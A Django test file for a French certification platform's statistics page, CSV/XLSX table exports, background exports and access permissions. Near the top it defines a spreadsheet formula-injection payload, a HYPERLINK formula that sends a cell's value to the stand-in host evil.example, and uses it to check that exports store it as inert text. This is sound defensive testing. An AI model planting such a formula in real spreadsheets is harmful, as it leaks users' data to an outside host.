"""The statistics page, its table exports (CSV, XLSX read back), the background
exports (results, scores, yearly report) and their permissions."""

import csv
import io
from datetime import datetime

import openpyxl
from django.test import TestCase
from django.urls import reverse
from pypdf import PdfReader

from certif.roles import Role
from evaluations.jury.models import Affectation, MembreJury
from evaluations.notation.models import Evaluation
from evaluations.statistiques.models import Export
from referentiel.models import Critere
from tests.evaluations.statistiques.factories import make_world
from tests.factories import make_user

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'


def read_csv(content: bytes) -> list[list[str]]:
    self_bom = content.startswith(b"\xef\xbb\xbf")
    assert self_bom, "the CSV starts with a UTF-8 BOM"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(content: bytes) -> list[list[object]]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook.worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


class StatistiquesViewTests(TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        cls.w = make_world(nom_c1=INJECTION)
        cls.url = reverse("evaluations:statistiques")
        cls.referent = make_user("ref@stats.fr", Role.REFERENT_HANDICAP)

    def test_admin_sees_every_table_with_its_chart_and_definition(self) -> None:
        self.client.force_login(self.w.admin)
        response = self.client.get(self.url, {"session": self.w.session.pk})
        self.assertEqual(response.status_code, 200)
        body = response.content.decode()
        for titre in (
            "Effectifs et décisions",
            "Par voie d&#x27;accès",
            "Par parcours",
            "Par bloc de compétences",
            "Par compétence : part « non acquise »",
            "Par critère : les critères le plus souvent « non acquis »",
            "Aménagements et dispenses",
            "Délais",
            "Recours",
        ):
            self.assertEqual(body.count(f">{titre}</h2>"), 1, titre)
        self.assertEqual(body.count('<svg class="graphique'), 9)
        self.assertEqual(body.count("<strong>Définition</strong>"), 9)
        # The masked cells, never the counts below five; no identity.
        self.assertIn('<td class="text-end">&lt; 5</td>', body)
        self.assertNotIn("HYPERLINK", body)
        self.assertNotIn("Nomp1", body)
        # Rates in French.
        self.assertIn('<td class="text-end">57,1</td>', body)

    def test_president_reads_his_sessions_only(self) -> None:
        self.client.force_login(self.w.president_ancienne)
        response = self.client.get(self.url)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(
            [str(s) for s in response.context["form"].fields["session"].queryset],
            ["Session juin 2025"],
        )
        self.assertEqual(response.context["tableaux"][0].lignes[0][1], 1)
        # Another session is an invalid choice: refused, nothing counted.
        response = self.client.get(self.url, {"session": self.w.session.pk})
        self.assertEqual(response.status_code, 400)
        self.assertEqual(response.context["tableaux"], [])
        self.assertIn("Sélectionnez un choix valide", response.content.decode())

    def test_wrong_roles_and_method(self) -> None:
        for user in (
            self.w.membre,
            self.referent,
            self.w.inscriptions["c1"].candidat.user,
        ):
            self.client.force_login(user)
            self.assertEqual(self.client.get(self.url).status_code, 403)
        self.client.force_login(self.w.admin)
        self.assertEqual(self.client.post(self.url).status_code, 405)
        self.client.logout()
        response = self.client.get(self.url)
        self.assertEqual(response.status_code, 302)

    def test_bad_year_is_refused_in_french(self) -> None:
        self.client.force_login(self.w.admin)
        response = self.client.get(self.url, {"annee": "1999"})
        self.assertEqual(response.status_code, 400)
        self.assertIn("Sélectionnez un choix valide", response.content.decode())

    def test_query_count_does_not_grow(self) -> None:
        self.client.force_login(self.w.admin)
        self.client.get(self.url)  # warm the session and the user's groups
        with self.assertNumQueries(21):
            self.client.get(self.url, {"session": self.w.ancienne.pk})
        with self.assertNumQueries(21):
            self.client.get(self.url, {"session": self.w.session.pk})

    def test_table_as_csv(self) -> None:
        self.client.force_login(self.w.admin)
        url = reverse("evaluations:statistiques_tableau", args=["voies", "csv"])
        response = self.client.get(url, {"session": self.w.session.pk})
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertEqual(
            response["Content-Disposition"],
            'attachment; filename="statistiques-voies.csv"',
        )
        rows = read_csv(b"".join(response.streaming_content))
        self.assertEqual(
            rows[0],
            [
                "Voie d'accès",
                "Inscrits",
                "Présents",
                "Certifiés",
                "Validations partielles",
                "Non validés",
                "Absents",
                "Désistés",
                "Taux de certification (%)",
            ],
        )
        self.assertEqual(
            rows[3],
            [
                "Formation continue hors contrat de professionnalisation",
                "5", "4", "2", "2", "0", "1", "0", "50,0",
            ],
        )  # fmt: skip
        self.assertEqual(rows[4][8], "")
        self.assertEqual(
            rows[8], ["Ensemble", "10", "7", "4", "2", "1", "1", "1", "57,1"]
        )

    def test_masked_table_as_xlsx(self) -> None:
        self.client.force_login(self.w.admin)
        url = reverse("evaluations:statistiques_tableau", args=["handicap", "xlsx"])
        response = self.client.get(url, {"session": self.w.session.pk})
        self.assertEqual(response.status_code, 200)
        rows = read_xlsx(b"".join(response.streaming_content))
        self.assertEqual(rows[0], ["Indicateur", "Candidats"])
        self.assertEqual(rows[4], ["Assistance d'un tiers", "< 5"])
        self.assertEqual(rows[6], ["Temps majoré", 5])

    def test_unknown_table_or_format(self) -> None:
        self.client.force_login(self.w.admin)
        for cle, fmt in (("inconnu", "csv"), ("voies", "pdf")):
            url = reverse("evaluations:statistiques_tableau", args=[cle, fmt])
            self.assertEqual(self.client.get(url).status_code, 404)

    def launch(self, nature: str, **filtre: int) -> Export:
        response = self.client.post(
            reverse("evaluations:export_launch"), {"nature": nature, **filtre}
        )
        export = Export.objects.latest("pk")
        self.assertRedirects(response, export.get_absolute_url())
        return export

    def download(self, export: Export) -> bytes:
        response = self.client.get(
            reverse("evaluations:export_download", args=[export.pk])
        )
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Cache-Control"], "private, no-store")
        return b"".join(response.streaming_content)

    def test_results_export_neutralises_formulas(self) -> None:
        self.client.force_login(self.w.admin)
        export = self.launch("resultats", session=self.w.session.pk)
        self.assertEqual(export.statut, Export.Statut.TERMINE)
        self.assertEqual((export.traites, export.total), (10, 10))
        content = self.download(export)
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        sheet = workbook.worksheets[0]
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        self.assertEqual(
            rows[0],
            [
                "Session", "Date du jury", "Nom de naissance", "Nom d'usage",
                "Prénoms", "Date de naissance", "E-mail", "Voie d'accès",
                "Parcours", "Blocs évalués", "Décision", "Blocs validés",
                "Décision le", "Date limite de dépôt", "Désistement le",
                "Reportée vers la session",
            ],
        )  # fmt: skip
        self.assertEqual(len(rows), 11)
        injected = next(r for r in rows if r[6] == "c1@stats.fr")
        # Written as text, read back as the very same text, never as a formula.
        self.assertEqual(injected[2], INJECTION.upper())
        cell = next(c for c in sheet["C"] if c.value == INJECTION.upper())
        self.assertEqual(cell.data_type, "s")
        self.assertEqual(
            injected[7:12],
            [
                "Formation initiale en apprentissage",
                "Certification complète",
                "B1, B2",
                "Certifié",
                "B1, B2",
            ],
        )
        n1 = next(r for r in rows if r[6] == "n1@stats.fr")
        self.assertEqual(
            n1[8:12],
            ["Blocs de compétences (capitalisation)", "B2", "Non validé", None],
        )
        d1 = next(r for r in rows if r[6] == "d1@stats.fr")
        self.assertIsNone(d1[10])
        # A spreadsheet has no time zones: the date as written, read back naive.
        self.assertEqual(d1[14], datetime(2026, 5, 1, 0, 0))  # noqa: DTZ001

    def test_scores_export(self) -> None:
        inscription = self.w.inscriptions["p1"]
        membre = MembreJury.objects.get(session=self.w.session, user=self.w.membre)
        affectation = Affectation.objects.create(membre=membre, inscription=inscription)
        for critere in Critere.objects.filter(referentiel=self.w.referentiel).order_by(
            "code"
        ):
            Evaluation.objects.create(
                affectation=affectation,
                critere=critere,
                resultat="non_acquis" if critere.code == "C2.1.1" else "acquis",
                commentaire="+33 6 00 00 00 00" if critere.code == "C1.1.1" else "",
            )
        self.client.force_login(self.w.president)
        export = self.launch("notes", session=self.w.session.pk)
        self.assertEqual(export.message, "")
        rows = read_xlsx(self.download(export))
        self.assertEqual(
            rows[0],
            [
                "Session", "Nom de naissance", "Nom d'usage", "Prénoms", "Bloc",
                "Compétence", "Critère", "Intitulé du critère", "Évaluateur",
                "Résultat de l'évaluateur", "Commentaire de l'évaluateur",
                "Résultat du jury",
            ],
        )  # fmt: skip
        self.assertEqual(
            rows[1:],
            [
                ["Session juin 2026", "NOMP1", None, "Léa", "B1", "C1.1", "C1.1.1", "Critère 1.", "Prénom Nom", "Acquis", "+33 6 00 00 00 00", "Acquis"],
                ["Session juin 2026", "NOMP1", None, "Léa", "B1", "C1.1", "C1.1.2", "Critère 2.", "Prénom Nom", "Acquis", None, "Acquis"],
                ["Session juin 2026", "NOMP1", None, "Léa", "B2", "C2.1", "C2.1.1", "Critère 1.", "Prénom Nom", "Non acquis", None, "Non acquis"],
                ["Session juin 2026", "NOMP1", None, "Léa", "B2", "C2.1", "C2.1.2", "Critère 2.", "Prénom Nom", "Acquis", None, "Acquis"],
            ],
        )  # fmt: skip

    def test_yearly_report(self) -> None:
        self.client.force_login(self.w.admin)
        export = self.launch(
            "rapport", certification=self.w.referentiel.certification_id, annee=2026
        )
        self.assertEqual(export.statut, Export.Statut.TERMINE)
        self.assertEqual(export.nom_fichier, "rapport-RNCP99999-2022-2026.pdf")
        text = "\n".join(
            page.extract_text()
            for page in PdfReader(io.BytesIO(self.download(export))).pages
        )
        self.assertIn("Rapport statistique 2022\N{EN DASH}2026", text)
        self.assertIn("Indicateur 2022 2023 2024 2025 2026", text)
        self.assertIn("Inscrits 0 0 0 1 10", text)
        self.assertIn("Certifiés 0 0 0 1 4", text)
        self.assertIn("Temps majoré < 5 < 5 < 5 < 5 5", text)
        self.assertIn("Assistance d'un tiers < 5 < 5 < 5 < 5 < 5", text)
        self.assertNotIn("{%", text)
        self.assertNotIn("{{", text)

    def test_yearly_report_needs_a_certification(self) -> None:
        self.client.force_login(self.w.admin)
        response = self.client.post(
            reverse("evaluations:export_launch"), {"nature": "rapport"}, follow=True
        )
        self.assertEqual(Export.objects.count(), 0)
        self.assertContains(
            response, "Choisissez la certification du rapport annuel dans les filtres."
        )

    def test_export_belongs_to_who_asked(self) -> None:
        self.client.force_login(self.w.admin)
        export = self.launch("resultats")
        other_admin = make_user("admin2@stats.fr", Role.ADMINISTRATEUR)
        self.client.force_login(other_admin)
        for name in ("evaluations:export_detail", "evaluations:export_download"):
            self.assertEqual(
                self.client.get(reverse(name, args=[export.pk])).status_code, 404
            )
        self.client.force_login(self.w.membre)
        self.assertEqual(
            self.client.get(
                reverse("evaluations:export_detail", args=[export.pk])
            ).status_code,
            403,
        )

    def test_export_progress_page(self) -> None:
        self.client.force_login(self.w.admin)
        export = self.launch("resultats", session=self.w.ancienne.pk)
        response = self.client.get(export.get_absolute_url())
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, "1 / 1 ligne écrite")
        self.assertContains(response, "Télécharger resultats-")
        response = self.client.get(
            export.get_absolute_url(), headers={"HX-Request": "true"}
        )
        self.assertTrue(
            response.content.decode().lstrip().startswith('<div id="progression"')
        )

    def test_unknown_nature_refused(self) -> None:
        self.client.force_login(self.w.admin)
        response = self.client.post(
            reverse("evaluations:export_launch"), {"nature": "tout"}, follow=True
        )
        self.assertEqual(Export.objects.count(), 0)
        self.assertContains(response, "Cet export n&#x27;existe pas.")
